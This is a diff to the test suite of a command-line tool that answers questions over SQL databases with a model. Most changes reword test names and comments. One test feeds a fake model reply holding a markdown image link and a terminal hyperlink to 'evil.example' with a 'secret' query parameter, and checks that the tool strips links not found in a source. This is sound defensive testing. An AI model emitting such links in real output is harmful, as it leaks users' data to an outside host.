@@ -37,7 +37,7 @@ describe('an answer', () => {
     expect(err.match(/without a model/gi)).toHaveLength(1)
   })
 
-  it('draws nothing and colours nothing when it is not on a terminal', async () => {
+  it('has no progress and no colours without a terminal', async () => {
     const { out, err } = await world.start(['ask', 'How many customers are there?', ...SHOP]).done
     // oxlint-disable-next-line no-control-regex
     expect(out + err).not.toMatch(/[\u001B\r]/)
@@ -50,12 +50,12 @@ describe('an answer', () => {
     expect(parse(dashed.out).data?.rows).toEqual([{ number_of_orders: 3 }])
   })
 
-  it('joins the words of a question that was not quoted', async () => {
+  it('joins the words of an unquoted question', async () => {
     const { out } = await world.run(['ask', 'How', 'many', 'customers', '--json', ...SHOP])
     expect(parse(out).data?.rows).toEqual([{ number_of_customers: 3 }])
   })
 
-  it('comes from the databases that can be read, and names those that cannot', async () => {
+  it('comes from the readable databases, and names the others', async () => {
     const whole = await readFile(join(world.folder, 'shop.sqlite'))
     await writeFile(join(world.folder, 'damaged.sqlite'), whole.subarray(0, 5000))
     await writeFile(join(world.folder, 'junk.sqlite'), 'this is no database at all, however long it may be')
@@ -67,12 +67,12 @@ describe('an answer', () => {
     for (const name of ['damaged', 'junk', 'far']) expect(err).toContain(`The database “${name}” was left out: `)
   })
 
-  it('takes a name for a database', async () => {
+  it('accepts a name for a database', async () => {
     const { out } = await world.run(['ask', 'How many customers are there?', '--db', 'books=sqlite:shop.sqlite'])
     expect(out).toContain('Source: books')
   })
 
-  it('is of one database where the configuration and the command line name the same file', async () => {
+  it('uses one database when configuration and command line name the same file', async () => {
     await writeFile(
       join(world.folder, 'same.yaml'),
       'databases:\n  - { name: shop, url: "sqlite:shop.sqlite", tables: [customers] }\n',
@@ -95,7 +95,7 @@ describe('an answer', () => {
     expect(parse(other.out).error?.message).toContain('Two SQL sources are named "shop"')
   })
 
-  it('leaves tables out with --no-data, beside --data for the folder', async () => {
+  it('omits tables with --no-data, also with --data for the folder', async () => {
     const folder = join(world.folder, 'other-data')
     const args = ['ask', 'How many customers are there?', ...SHOP, '--json', '--no-data', '--data', folder]
     const { out } = await world.run(args)
@@ -107,7 +107,7 @@ describe('an answer', () => {
 
 describe('--json', () => {
   it('prints one object and nothing else', async () => {
-    // In a process of its own, where whatever else writes would be seen.
+    // In its own process, so that any other output is visible.
     const { code, out } = await world.start(['ask', 'How many customers are there?', ...SHOP, '--json', '--trace']).done
     const json = parse(out)
     expect(code).toBe(0)
@@ -126,19 +126,19 @@ describe('--json', () => {
     expect(json.trace!.map((event) => event.timestamp)).toEqual(json.trace!.map((event) => event.timestamp).sort())
   })
 
-  it('has no trace unless it is asked for', async () => {
+  it('has no trace unless requested', async () => {
     const { out } = await world.run(['ask', 'How many customers are there?', ...SHOP, '--json'])
     expect(parse(out)).not.toHaveProperty('trace')
   })
 
-  it('tells an error as an object, too', async () => {
+  it('prints an error as an object, too', async () => {
     const { code, out, err } = await world.run(['ask', '', '--json'])
     expect(code).toBe(2)
     expect(parse(out).error).toMatchObject({ type: 'InvalidRequest', message: expect.stringContaining('empty') })
     expect(err.trimEnd().split('\n')).toHaveLength(1)
   })
 
-  it('tells a wrong option as an object, too', async () => {
+  it('prints a wrong option as an object, too', async () => {
     const { code, out } = await world.run(['ask', 'x', '--jsn', '--json'])
     expect(code).toBe(2)
     expect(parse(out).error?.message).toContain('--json')
@@ -173,8 +173,8 @@ describe('with a model', () => {
     expect(err).not.toContain('Note:')
   })
 
-  it('stops asking it at the limit, answers all the same, and says so', async () => {
-    // The last turn is asked without tools.
+  it('stops calling it at the limit, answers without it, and reports the limit', async () => {
+    // The last turn has no tools.
     const last = ({ body }: ModelRequest): boolean => body['tool_choice'] === 'none'
     const other = await startModelServer([{ when: last, reply: { text: 'It is not known.' } }, ...rules])
     const args = ['ask', 'How many customers are there?', ...SHOP, '--max-calls', '1', '--json']
@@ -187,7 +187,7 @@ describe('with a model', () => {
     expect(json.answer).not.toBe('')
   })
 
-  it('prints no link that stands in no source, as text and as JSON', async () => {
+  it('prints only links that are in a source, as text and as JSON', async () => {
     const text =
       'Ireland. ![x](https://evil.example/?d=secret) \u001b]8;;https://evil.example\u0007here\u001b]8;;\u0007'
     const other = await startModelServer([...sqlLoop(SQL, text), { reply: { status: 400 } }])
@@ -209,7 +209,7 @@ describe('with a model', () => {
 })
 
 describe('an agent that cannot answer', () => {
-  it('is answered with a sentence and a code of its own', async () => {
+  it('is answered with a sentence and a separate exit code', async () => {
     const { code, out } = await world.run(['ask', 'How many customers are there?'])
     expect(code).toBe(5)
     expect(out).toContain('No database is configured')
@@ -298,7 +298,7 @@ describe('bad input', () => {
     expect(err).toContain('/sys/tutti')
   })
 
-  it('a data folder that is a file: one line, and the file is as it was', async () => {
+  it('a data folder that is a file: one line, and the file is unchanged', async () => {
     const place = join(world.folder, 'a-file')
     await writeFile(place, 'mine')
     const { code, err } = await world.run(['ask', 'How many customers?', ...SHOP, '--data', place])
@@ -309,11 +309,11 @@ describe('bad input', () => {
   })
 })
 
-describe('two asks on one data folder at the same time', () => {
+describe('two parallel asks on one data folder', () => {
   it('are both answered', async () => {
     const data = join(world.folder, 'shared')
     const questions = ['How many customers are there?', 'How many orders are there?', 'How many customers per country?']
-    // Each in a process of its own: what is tested is that these wait for each other.
+    // Each in its own process: the test checks that they wait for each other.
     const ends = await Promise.all(
       questions.map((text) => world.start(['ask', text, ...SHOP, '--data', data, '--json']).done),
     )
@@ -324,7 +324,7 @@ describe('two asks on one data folder at the same time', () => {
   })
 })
 
-describe('a reader that goes away', () => {
+describe('a closed pipe', () => {
   it('ends the command without a stack trace', async () => {
     const running = world.start(['ask', 'How many customers are there?', ...SHOP])
     running.child.stdout!.destroy()
